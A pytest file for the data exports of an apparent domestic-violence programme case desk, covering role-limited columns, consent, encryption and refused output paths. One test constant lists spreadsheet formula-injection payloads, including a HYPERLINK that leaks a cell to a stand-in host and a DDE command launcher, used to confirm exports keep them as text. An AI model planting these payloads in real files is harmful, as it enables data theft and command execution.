"""The work exports on a real vault, every file read back with openpyxl: the participant list with
the columns of each role (admin, staf, fasilitator), consent honoured as in the register;
attendance per group and session (a facilitator: only her groups); assessment scores for the
restricted key's roles only; the admin's full export (one sheet per record type, restricted
fields opened, a password-protected workbook that decrypts only with its password, a zip of
CSV files); text that looks like a formula stays text; a cancelled export leaves no file and no
audit entry; a path in the data folder is refused."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import msoffcrypto
import pytest
from msoffcrypto.exceptions import InvalidKeyError
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from support.constants import ADMIN
from support.participant_samples import TODAY, sample
from support.programme import Programme, accepted, build, session_on
from support.team import Team
from support.vault_fixture import VaultFixture

from kdrt_desk.domain.assessment import AssessmentInput
from kdrt_desk.domain.enums import ConsentScope
from kdrt_desk.domain.participant import Consent
from kdrt_desk.domain.training import GroupInput
from kdrt_desk.errors import UserError
from kdrt_desk.models import Participant
from kdrt_desk.services.work_exports import FULL_TABLES, UNPROTECTED_WARNING
from kdrt_desk.wiring import Services

DAY = date(2026, 11, 25)
PASSWORD = "sandi-ekspor-77"
ATTACKS = ('=HYPERLINK("http://contoh.invalid/?q="&A1,"Klik")', "+cmd|' /C calc'!A0",
           "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


@pytest.fixture
def team(vault: VaultFixture) -> Iterator[Team]:
    crew = Team.hired(vault)
    yield crew
    crew.close()


def _book(path: Path) -> Workbook:
    return load_workbook(path)


def _rows(path: Path, sheet: int = 0) -> list[list[object]]:
    book = _book(path)
    return [list(r) for r in book.worksheets[sheet].iter_rows(values_only=True)]


def _dicts(path: Path, sheet: int = 0) -> list[dict[str, object]]:
    head, *body = _rows(path, sheet)
    return [dict(zip([str(h) for h in head], row, strict=True)) for row in body]


def _no_formula(path: Path) -> None:
    """No cell of any sheet is a formula, by openpyxl and in the sheets' XML."""
    for sheet in _book(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def _programme(services: Services) -> tuple[Programme, int, int]:
    """The test programme (psychologist linked to ``fasilitator1``), a second group only the
    trainer runs with one more member, and a session of each marked on 25 November."""
    programme = build(services, members=3, link_login="fasilitator1")
    other = services.groups.save(GroupInput(
        name="Angkatan 2 Kemuning", kecamatan="Kemuning", start_date=date(2026, 9, 1),
        end_date=date(2026, 12, 31), venue_id=programme.venue_id,
        module_ids=[programme.modules["SOS-01"], programme.modules["SOS-02"]],
        facilitator_ids={programme.facilitators["trainer"]}))
    stranger = accepted(services, 1, start=10)[0]
    services.groups.enrol(other.id, [stranger], on=date(2026, 11, 20))
    mine = services.sessions.create(session_on(programme, DAY))
    theirs = services.sessions.create(session_on(
        Programme(other.id, programme.modules, programme.venue_id, programme.kitchen_id,
                  programme.facilitators), DAY, start=13, end=15, module="SOS-02",
        facilitator="trainer"))
    for pid in programme.participants:
        services.attendance.mark(mine.id, pid, "present", today=TODAY)
    services.attendance.mark(mine.id, programme.participants[0], "excused", reason="Anak sakit",
                             today=TODAY)
    services.attendance.mark(theirs.id, stranger, "absent", today=TODAY)
    return programme, other.id, stranger


def test_the_participant_list_has_the_columns_each_role_may_see(
        team: Team, tmp_path: Path) -> None:
    admin = team(ADMIN)
    programme, _other, stranger = _programme(admin)
    admin.participants.register(sample(nik="1671044506850009", phone="0812-1111-2222",
                                       full_name="Rina Wulandari"), today=TODAY)
    admin.participants.register(sample(
        nik="1671044506850010", phone="0857-3333-4444", full_name="Dewi Tanpa Kontak",
        consent=Consent(date(2026, 11, 20), {ConsentScope.DATA_USE})), today=TODAY)
    out = admin.work_exports.participants(tmp_path / "admin.xlsx")
    rows = {r["Nama lengkap"]: r for r in _dicts(out.path)}
    assert out.rows == len(rows) == 6
    assert list(next(iter(rows.values()))) == [
        "Kode", "Nama lengkap", "Nama panggilan", "NIK", "Telepon", "Status", "Kecamatan",
        "Tanggal daftar", "Tingkat risiko"]
    assert rows["Rina Wulandari"]["Telepon"] == "+6281211112222"
    assert rows["Rina Wulandari"]["NIK"] == "1671044506850009"
    assert rows["Dewi Tanpa Kontak"]["Telepon"] == "(tanpa izin kontak)"  # no contact consent
    assert rows["Siti Uji 000"]["Status"] == "Mengikuti program"
    assert rows["Siti Uji 000"]["Tingkat risiko"] == "Rendah"

    staff = team("staf1").work_exports.participants(tmp_path / "staf.xlsx", lang="en")
    staff_rows = _dicts(staff.path)
    assert list(staff_rows[0]) == ["Code", "Full name", "Preferred name", "NIK", "Phone",
                                   "Status", "Kecamatan", "Registered on"]  # no risk level
    assert len(staff_rows) == 6

    mine = team("fasilitator1").work_exports.participants(tmp_path / "fasilitator.xlsx")
    facilitator_rows = _dicts(mine.path)
    assert list(facilitator_rows[0]) == ["Kode", "Nama lengkap", "Nama panggilan", "Status",
                                         "Kecamatan", "Tanggal daftar"]  # no contact column
    names = {r["Nama lengkap"] for r in facilitator_rows}
    assert names == {"Siti Uji 000", "Nur Uji 001", "Dewi Uji 002"}  # her group's members only
    assert stranger not in programme.participants
    entries = team(ADMIN).audit.entries(action="participants_exported")
    assert [e.actor for e in entries][-3:] == [ADMIN, "staf1", "fasilitator1"] or {
        e.actor for e in entries} >= {ADMIN, "staf1", "fasilitator1"}
    assert all("Rina" not in e.details for e in entries)


def test_attendance_per_group_and_session_and_a_facilitator_sees_only_her_groups(
        team: Team, tmp_path: Path) -> None:
    admin = team(ADMIN)
    _programme(admin)
    everything = _dicts(admin.work_exports.attendance(tmp_path / "all.xlsx").path)
    assert {r["Kelompok"] for r in everything} == {"Angkatan 1 Plaju", "Angkatan 2 Kemuning"}
    marks = {(r["Kelompok"], r["Nama lengkap"]): (r["Kehadiran"], r["Alasan"])
             for r in everything}
    assert marks[("Angkatan 1 Plaju", "Siti Uji 000")] == ("Izin", "Anak sakit")
    assert marks[("Angkatan 1 Plaju", "Nur Uji 001")] == ("Hadir", None)
    assert marks[("Angkatan 2 Kemuning", "Rosa Uji 010")] == ("Tidak hadir", None)
    day = everything[0]["Tanggal sesi"]
    assert isinstance(day, datetime) and day.date() == DAY  # a real date cell
    assert everything[0]["Status sesi"] == "Terlaksana"

    hers = _dicts(team("fasilitator1").work_exports.attendance(tmp_path / "hers.xlsx").path)
    assert {r["Kelompok"] for r in hers} == {"Angkatan 1 Plaju"}
    assert len(hers) == 3 and "Rosa Uji 010" not in {r["Nama lengkap"] for r in hers}
    assert team(ADMIN).audit.entries(action="attendance_exported")


def test_assessment_scores_only_for_the_restricted_key(team: Team, tmp_path: Path) -> None:
    admin = team(ADMIN)
    programme, _other, _stranger = _programme(admin)
    admin.assessments.record(AssessmentInput(programme.participants[0], "WHO5", "baseline",
                                             DAY, (3, 3, 3, 2, 1)))
    rows = _dicts(admin.work_exports.assessments(tmp_path / "scores.xlsx", lang="en").path)
    assert len(rows) == 1
    assert (rows[0]["Full name"], rows[0]["Instrument"], rows[0]["Round"], rows[0]["Score"],
            rows[0]["Raw score"], rows[0]["Band"]) == (
        "Siti Uji 000", "WHO5", "Baseline", 48, 12, "poor")
    assert _rows(team("konselor1").work_exports.assessments(tmp_path / "k.xlsx").path)[1][4]
    for name in ("staf1", "fasilitator1"):
        with pytest.raises(UserError) as refused:
            team(name).work_exports.assessments(tmp_path / f"{name}.xlsx")
        assert refused.value.key == "error.export_assessments_restricted"
        assert not (tmp_path / f"{name}.xlsx").exists()


def test_text_that_looks_like_a_formula_stays_text_in_every_export(
        admin: Services, tmp_path: Path) -> None:
    for n, attack in enumerate(ATTACKS):
        pid = admin.participants.register(sample(
            nik=f"16710445068501{n:02d}", full_name=f"Nama {n}", phone=""), today=TODAY).id
        # put in as it is (the form refuses a tab or a return; an old vault may hold one)
        with admin.vault.db.transaction() as session:
            row = session.get(Participant, pid)
            assert row is not None
            row.full_name, row.preferred_name = f"Nama {attack}", attack[:20]
            row.occupation, row.kelurahan = attack, attack[:30]
    listed = admin.work_exports.participants(tmp_path / "list.xlsx")
    full = admin.work_exports.full(tmp_path / "full.xlsx")
    for path in (listed.path, full.path):
        _no_formula(path)
    names = {r["Nama lengkap"] for r in _dicts(listed.path)}
    # (an XML reader reads a carriage return as a line feed: Excel does the same)
    assert names == {f"Nama {a}".replace("\r", "\n") for a in ATTACKS}
    book = _book(full.path)
    sheet = book.worksheets[1]
    head = [c.value for c in sheet[1]]
    occupations = [row[head.index("occupation")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in occupations) == sorted(a.replace("\r", "\n") for a in ATTACKS)
    assert all(c.data_type == "s" and c.quotePrefix for c in occupations)


def test_the_full_export_is_for_the_admin_only(team: Team, tmp_path: Path) -> None:
    for name in ("konselor1", "staf1", "fasilitator1"):
        with pytest.raises(UserError) as refused:
            team(name).work_exports.full(tmp_path / f"{name}.xlsx")
        assert refused.value.key == "error.export_full_admin_only"
        assert not (tmp_path / f"{name}.xlsx").exists()


def test_the_full_export_has_a_sheet_per_record_type_with_restricted_fields(
        admin: Services, tmp_path: Path) -> None:
    programme = build(admin, members=2)
    admin.participants.register(sample(nik="1671044506850077"), today=TODAY)
    done = admin.work_exports.full(tmp_path / "full.xlsx")
    assert done.warnings == (UNPROTECTED_WARNING,) and not done.protected
    book = _book(done.path)
    assert len(book.worksheets) == len(FULL_TABLES) + 1 == done.sheets
    assert book.sheetnames[:4] == ["Tentang berkas ini", "Peserta", "Latar kasus",
                                   "Persetujuan"]
    people = _dicts(done.path, 1)
    assert len(people) == 3
    siti = next(p for p in people if p["nik"] == "1671044506850077")
    assert siti["full_name"] == "Siti Aminah Lestari" and siti["monthly_income"] == 1_500_000
    assert "seal_id" not in siti and "search_text" not in siti
    cases = _dicts(done.path, 2)
    assert "Suami memeriksa ponselnya setiap malam." in {c["safety_notes"] for c in cases}
    enrolments = _dicts(done.path, book.sheetnames.index("Keanggotaan"))
    assert {e["participant_id"] for e in enrolments} == set(programme.participants)
    about = {str(r[0]): r[1] for r in _rows(done.path, 0)[1:]}
    assert about["Peserta"] == 3
    entry = admin.audit.entries(action="full_export_written")[-1]
    assert entry.details["protected"] is False and entry.details["rows"] == done.rows > 3
    assert "Siti" not in str(entry.details) and "1671044506850077" not in str(entry.details)


def test_a_password_protected_workbook_opens_only_with_its_password(
        admin: Services, tmp_path: Path) -> None:
    admin.participants.register(sample(), today=TODAY)
    done = admin.work_exports.full(tmp_path / "locked.xlsx", password=PASSWORD)
    assert done.protected and done.warnings == ()
    raw = done.path.read_bytes()
    assert not raw.startswith(b"PK") and not zipfile.is_zipfile(done.path)
    assert raw.startswith(b"\xd0\xcf\x11\xe0")  # an OLE container: Office's encryption
    assert b"Siti Aminah" not in raw and "Siti Aminah".encode("utf-16-le") not in raw
    wrong = msoffcrypto.OfficeFile(io.BytesIO(raw))
    wrong.load_key(password="bukan-sandinya")
    with pytest.raises(InvalidKeyError):
        wrong.decrypt(io.BytesIO())
    office = msoffcrypto.OfficeFile(io.BytesIO(raw))
    assert office.is_encrypted()
    office.load_key(password=PASSWORD)
    plain = io.BytesIO()
    office.decrypt(plain)
    book = load_workbook(plain)
    people = book.worksheets[1]
    head = [c.value for c in people[1]]
    assert people.cell(2, head.index("full_name") + 1).value == "Siti Aminah Lestari"
    with pytest.raises(UserError) as short:
        admin.work_exports.full(tmp_path / "short.xlsx", password="pendek")
    assert short.value.key == "error.export_password_short"
    assert not (tmp_path / "short.xlsx").exists()


def test_a_zip_holds_one_csv_per_sheet_and_takes_no_password(
        admin: Services, tmp_path: Path) -> None:
    admin.participants.register(sample(occupation="=1+1"), today=TODAY)
    done = admin.work_exports.full(tmp_path / "full.zip", lang="en")
    assert done.warnings == (UNPROTECTED_WARNING,)
    with zipfile.ZipFile(done.path) as archive:
        names = archive.namelist()
        assert len(names) == len(FULL_TABLES) + 1 and "Participants.csv" in names
        text = archive.read("Participants.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["full_name"] == "Siti Aminah Lestari" and rows[0]["occupation"] == "'=1+1"
    with pytest.raises(UserError) as refused:
        admin.work_exports.full(tmp_path / "locked.zip", password=PASSWORD)
    assert refused.value.key == "error.export_zip_password"
    assert not (tmp_path / "locked.zip").exists()


def test_a_cancelled_export_leaves_no_file_and_no_audit_entry(
        admin: Services, tmp_path: Path) -> None:
    build(admin, members=2)
    seen: list[tuple[int, int]] = []
    folder = tmp_path / "out"
    folder.mkdir()

    def cancel(done: int, total: int) -> bool:
        seen.append((done, total))
        return False

    exports = admin.work_exports
    for name, run in (("full", lambda p: exports.full(p, report=cancel)),
                      ("locked", lambda p: exports.full(p, password=PASSWORD, report=cancel)),
                      ("list", lambda p: exports.participants(p, report=cancel)),
                      ("attendance", lambda p: exports.attendance(p, report=cancel)),
                      ("scores", lambda p: exports.assessments(p, report=cancel))):
        with pytest.raises(UserError) as cancelled:
            run(folder / f"{name}.xlsx")
        assert cancelled.value.key == "error.cancelled"
        assert list(folder.iterdir()) == []  # not even a temporary file
    assert seen and all(total >= 1 for _done, total in seen)
    for action in ("full_export_written", "participants_exported", "attendance_exported",
                   "assessments_exported"):
        assert admin.audit.entries(action=action) == []
    steps: list[tuple[int, int]] = []

    def keep_going(done: int, total: int) -> bool:
        steps.append((done, total))
        return True

    exports.full(folder / "done.xlsx", report=keep_going)
    assert steps[-1][0] == steps[-1][1]  # the last report is "all done"


def test_a_file_in_the_data_folder_or_an_existing_one_is_refused(
        admin: Services, vault: VaultFixture, tmp_path: Path) -> None:
    inside = vault.data_dir / "ekspor.xlsx"
    for run in (admin.work_exports.full, admin.work_exports.participants):
        with pytest.raises(UserError) as refused:
            run(inside)
        assert refused.value.key == "error.output_in_data_folder"
    assert not inside.exists()
    existing = tmp_path / "ada.xlsx"
    existing.write_bytes(b"lama")
    with pytest.raises(UserError) as exists:
        admin.work_exports.attendance(existing)
    assert exists.value.key == "error.output_exists" and existing.read_bytes() == b"lama"
    admin.work_exports.attendance(existing, overwrite=True)
    assert _rows(existing)[0][0] == "Kelompok"
    with pytest.raises(UserError) as wrong_type:
        admin.work_exports.participants(tmp_path / "daftar.csv")
    assert wrong_type.value.key == "error.export_file_type"
